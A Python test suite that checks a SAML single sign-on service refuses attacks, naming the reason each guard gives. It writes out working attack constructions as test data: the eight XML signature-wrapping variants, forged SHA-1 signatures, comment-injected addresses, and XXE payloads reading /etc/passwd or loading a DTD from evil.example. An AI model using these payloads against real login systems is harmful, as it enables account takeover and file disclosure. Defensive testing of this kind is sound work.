"""SAML under attack. Each test names the reason that its guard gives, so that it fails without."""

from __future__ import annotations

from copy import deepcopy
from datetime import timedelta
from typing import Any

import pytest
from lxml import etree

pytestmark = pytest.mark.engines

A = "{urn:oasis:names:tc:SAML:2.0:assertion}"
P = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"


async def attacked(browser: Any, tools: Any, response: Any) -> str:
    """What becomes of a response; `response` makes it for the request."""
    to = tools.asked(await browser.begin())
    left = await browser.post(response(to), to.relay_state)
    assert await browser.who() is None
    return str(tools.outcome(left))


ELSEWHERE: list[tuple[str, dict[str, str]]] = [
    ("audience", {"audience": "https://other.example/metadata"}),
    ("recipient", {"recipient": "https://other.example/acs"}),
    ("recipient", {"destination": "https://other.example/acs"}),
    ("request", {"in_response_to": "_another"}),
    ("request", {"in_response_to": "", "subject_in_response_to": ""}),
    ("request", {"subject_in_response_to": "_another"}),
    ("request", {"subject_in_response_to": ""}),
    ("issuer", {"issuer": "https://other.example/entity"}),
    ("status", {"status": "urn:oasis:names:tc:SAML:2.0:status:Responder"}),
    ("recipient", {"method": "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"}),
    ("condition", {"condition": "<saml:Condition/>"}),
]


@pytest.mark.parametrize("sign", ["assertion", "response"])
async def test_an_assertion_for_something_else(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any, sign: str
) -> None:
    """Another audience, place, request, issuer, a failure, or a condition nobody knows: refused."""
    for _, said in ELSEWHERE:
        assert (
            await attacked(
                browser,
                tools,
                lambda to, said=said: idp.respond(to, member.email, sign=sign, **said),
            )
            == "refused"
        )
    assert await reasons() == [reason for reason, _ in ELSEWHERE]


async def test_a_signed_response_without_a_destination(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any
) -> None:
    """A signed response must say where it goes."""
    await attacked(
        browser, tools, lambda to: idp.respond(to, member.email, sign="response", destination="")
    )
    assert await reasons() == ["recipient"]


async def test_an_assertion_of_another_time(
    browser: Any, idp: Any, tools: Any, member: Any, clock: Any, reasons: Any
) -> None:
    """Old, not yet valid, of a session that is over, or valid for days: refused."""
    times: list[dict[str, timedelta]] = [
        {"not_on_or_after": -timedelta(minutes=2), "not_before": -timedelta(minutes=9)},
        {"not_before": timedelta(minutes=2)},
        {"session_until": -timedelta(minutes=2)},
        {"not_on_or_after": timedelta(days=2)},
    ]
    for moved in times:
        said = {name: clock() + delta for name, delta in moved.items()}
        await attacked(browser, tools, lambda to, said=said: idp.respond(to, member.email, **said))
    assert await reasons() == ["time"] * len(times)


async def test_an_unsigned_assertion(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any
) -> None:
    """Without a signature nothing is believed."""
    await attacked(browser, tools, lambda to: idp.respond(to, member.email, sign="none"))
    assert await reasons() == ["unsigned"]


async def test_a_signature_by_somebody_else(
    browser: Any, idp: Any, tools: Any, member: Any, clock: Any, reasons: Any
) -> None:
    """A certificate that comes along in KeyInfo, the same name on it, counts for nothing."""
    impostor = tools.idp(clock, pair=tools.pair("idp", bits=3072))
    await attacked(browser, tools, lambda to: impostor.respond(to, member.email))
    assert await reasons() == ["signature"]


async def test_an_altered_assertion(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any
) -> None:
    """A changed letter breaks the signature."""

    def altered(to: Any) -> bytes:
        response: bytes = idp.respond(to, "x" + member.email)
        return response.replace(b">x" + member.email.encode(), b">" + member.email.encode())

    await attacked(browser, tools, altered)
    assert await reasons() == ["signature"]


async def test_weak_and_strange_algorithms(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any
) -> None:
    """SHA-1, HMAC, and transforms that could choose what is signed are refused by name."""
    c14n = b'CanonicalizationMethod Algorithm="http://www.w3.org/'
    transform = b'Transform Algorithm="http://www.w3.org/'
    changes = [
        (b"2001/04/xmldsig-more#rsa-sha256", b"2000/09/xmldsig#rsa-sha1"),
        (b"2001/04/xmlenc#sha256", b"2000/09/xmldsig#sha1"),
        (b"2001/04/xmldsig-more#rsa-sha256", b"2001/04/xmldsig-more#hmac-sha256"),
        (c14n + b"2001/10/xml-exc-c14n#", c14n + b"TR/2001/REC-xml-c14n-20010315"),
        (
            transform + b"2000/09/xmldsig#enveloped-signature",
            transform + b"TR/1999/REC-xpath-19991116",
        ),
    ]
    for old, new in changes:

        def changed(to: Any, old: bytes = old, new: bytes = new) -> bytes:
            honest = idp.respond(to, member.email)
            assert old in honest
            return bytes(honest.replace(old, new))

        await attacked(browser, tools, changed)
    assert await reasons() == ["algorithm"] * len(changes)


async def test_sha1_that_is_really_signed(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any, monkeypatch: Any
) -> None:
    """A signature with RSA-SHA1, made right by the right key, is refused."""
    import xmlsec

    known = xmlsec.constants

    def signed(to: Any) -> bytes:
        root = idp.response(to, member.email)
        found = root.find(f"{A}Assertion")
        place = xmlsec.template.create(
            found, known.TransformExclC14N, known.TransformRsaSha1, ns="ds"
        )
        found.insert(1, place)
        reference = xmlsec.template.add_reference(
            place, known.TransformSha1, uri="#" + found.get("ID")
        )
        xmlsec.template.add_transform(reference, known.TransformEnveloped)
        xmlsec.template.add_transform(reference, known.TransformExclC14N)
        context = xmlsec.SignatureContext()
        context.key = xmlsec.Key.from_memory(tools.pem(idp.pair.key), known.KeyDataFormatPem)
        context.register_id(found, "ID")
        context.sign(place)
        return bytes(etree.tostring(root))

    await attacked(browser, tools, signed)
    assert await reasons() == ["algorithm"]


def part_of(element: etree._Element, path: str) -> etree._Element:
    """What is there."""
    one = element.find(path)
    assert one is not None
    return one


def wrapped(response: bytes, variant: int, evil: str) -> bytes:
    """The eight signature wrappings of Somorovsky and others, "On Breaking SAML" (2012)."""
    root = etree.fromstring(response)
    honest = part_of(root, f"{A}Assertion")
    if variant <= 2:  # the response is signed
        original, forged = deepcopy(root), deepcopy(root)
        forged.set("ID", "_evil")
        signature = part_of(forged, f"{DS}Signature")
        original.remove(part_of(original, f"{DS}Signature"))
        if variant == 1:
            signature.append(original)
        else:
            forged.insert(list(forged).index(signature), original)
        _rename(forged.find(f"{A}Assertion"), evil)
        return bytes(etree.tostring(forged))
    forged = deepcopy(honest)
    forged.set("ID", "_evil")
    _rename(forged, evil)
    bare = deepcopy(honest)
    bare.remove(part_of(bare, f"{DS}Signature"))
    in_forged = part_of(forged, f"{DS}Signature")
    if variant in (3, 4, 7):
        forged.remove(in_forged)
    match variant:
        case 3:
            root.insert(list(root).index(honest), forged)
        case 4:
            root.replace(honest, forged)
            forged.append(honest)
        case 5:
            root.replace(honest, forged)
            root.append(bare)
        case 6:
            root.replace(honest, forged)
            in_forged.append(bare)
        case 7:
            extensions = etree.Element(f"{P}Extensions")
            root.insert(1, extensions)
            extensions.append(forged)
        case 8:
            root.replace(honest, forged)
            etree.SubElement(in_forged, f"{DS}Object").append(bare)
    return bytes(etree.tostring(root))


def _rename(assertion: Any, email: str) -> None:
    assertion.find(f"{A}Subject/{A}NameID").text = email


@pytest.mark.parametrize("deeper", [False, True])
async def test_signature_wrapping(
    browser: Any,
    browse: Any,
    idp: Any,
    tools: Any,
    member: Any,
    admin: Any,
    reasons: Any,
    monkeypatch: Any,
    deeper: bool,
) -> None:
    """A forged assertion beside, around or below the signed one is refused for the document's
    shape; and if that were not looked at, nothing but what is signed would be read."""
    if deeper:
        from coop_review_api.single_sign_on import assertion

        monkeypatch.setattr(assertion, "check_shape", lambda root: None)
    variants = range(1, 9)
    for variant in variants:
        one = browse(browser.provider_id)
        to = tools.asked(await one.begin())
        honest = idp.respond(to, member.email, sign="response" if variant <= 2 else "assertion")
        left = await one.post(wrapped(honest, variant, admin.email), to.relay_state)
        if left.startswith("http://review"):
            await one.land(left)
        assert await one.who() in ({None, member.email} if deeper else {None}), variant
    if not deeper:
        assert await reasons() == ["shape"] * len(variants)


async def test_a_signature_about_something_else(
    browser: Any, idp: Any, tools: Any, member: Any, admin: Any, reasons: Any
) -> None:
    """A signature that refers to another element than the one that carries it is no signature."""

    def moved(to: Any) -> bytes:
        root = etree.fromstring(idp.respond(to, member.email))
        honest = part_of(root, f"{A}Assertion")
        honest.set("ID", "_evil")
        _rename(honest, admin.email)
        return bytes(etree.tostring(root))

    await attacked(browser, tools, moved)
    assert await reasons() == ["signature"]


async def test_a_comment_in_the_address(
    browser: Any, idp: Any, tools: Any, admin: Any, reasons: Any
) -> None:
    """Whoever has `admin@acme.example.evil.example` does not become `admin@acme.example`."""

    insides = (b"<!---->", b"<!-- x -->", b"<?x y?>")
    for inside in insides:

        def split(to: Any, inside: bytes = inside) -> bytes:
            honest = idp.respond(to, f"{admin.email}.evil.example")
            email = admin.email.encode()
            return bytes(honest.replace(email + b".evil", email + inside + b".evil"))

        await attacked(browser, tools, split)
    assert await reasons() == ["comment"] * len(insides)


async def test_a_comment_outside_the_root(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any
) -> None:
    """No comment is taken, not even one that no signature could cover."""
    await attacked(browser, tools, lambda to: b"<!--x-->" + idp.respond(to, member.email))
    await attacked(browser, tools, lambda to: idp.respond(to, member.email) + b"<!--x-->")
    assert await reasons() == ["comment", "comment"]


HOSTILE: list[tuple[str, bytes]] = [
    (
        "doctype",
        b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>',
    ),
    (
        "doctype",
        b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r x="&b;"/>',
    ),
    ("doctype", b'<!DOCTYPE r SYSTEM "https://evil.example/x.dtd"><r/>'),
    ("xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r><r/>'.encode("utf-16")),
    ("xml", b'<?xml version="1.0" encoding="UTF-7"?><r>+ADwAIQ-</r>'),
    ("xml", b"<r>"),
    ("xml", b""),
    ("size", b"<r>" + b"x" * (256 * 1024) + b"</r>"),
    ("shape", b"<r/>"),
    ("xml", b"<r>" * 2000),
]


async def test_hostile_xml(browser: Any, tools: Any, reasons: Any) -> None:
    """Entities, files, bombs, strange encodings and giants are refused before they are read."""
    for _, document in HOSTILE:
        assert await attacked(browser, tools, lambda to, found=document: found) == "refused"
    assert await reasons() == [reason for reason, _ in HOSTILE]


async def test_an_encrypted_assertion_is_refused_clearly(
    browser: Any, idp: Any, tools: Any, member: Any, reasons: Any
) -> None:
    """Encryption is not supported, and the audit log says that it is this."""

    def encrypted(to: Any) -> bytes:
        root = idp.response(to, member.email)
        root.replace(root.find(f"{A}Assertion"), etree.Element(f"{A}EncryptedAssertion"))
        return bytes(etree.tostring(root))

    await attacked(browser, tools, encrypted)
    assert await reasons() == ["encrypted"]


async def test_what_is_no_address(browser: Any, idp: Any, tools: Any, reasons: Any) -> None:
    """Only an address in ASCII is looked up: no letter (as the Kelvin sign) becomes another."""
    addresses = (
        "",
        "nobody",
        "a b@acme.example",
        "\u212aim@acme.example",
        "a@b.example, c@b.example",
    )
    for address in addresses:
        await attacked(browser, tools, lambda to, said=address: idp.respond(to, said))
    assert await reasons() == ["email"] * len(addresses)


async def test_an_expired_certificate_signs_nothing(
    browser: Any, idp: Any, tools: Any, member: Any, clock: Any, reasons: Any
) -> None:
    """A certificate counts until its end."""
    clock.forward(days=366)
    to = tools.asked(await browser.begin())
    assert tools.outcome(await browser.post(idp.respond(to, member.email), to.relay_state))
    assert await reasons() == ["signature"]
